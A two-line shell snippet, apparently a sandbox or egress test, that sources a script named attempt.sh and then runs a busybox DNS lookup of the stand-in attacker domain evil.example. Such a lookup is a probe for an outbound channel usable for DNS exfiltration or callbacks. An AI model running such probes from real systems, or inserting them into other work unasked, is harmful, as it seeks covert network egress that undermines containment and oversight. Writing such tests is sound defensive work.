. /var/task/attempt.sh
busybox nslookup evil.example
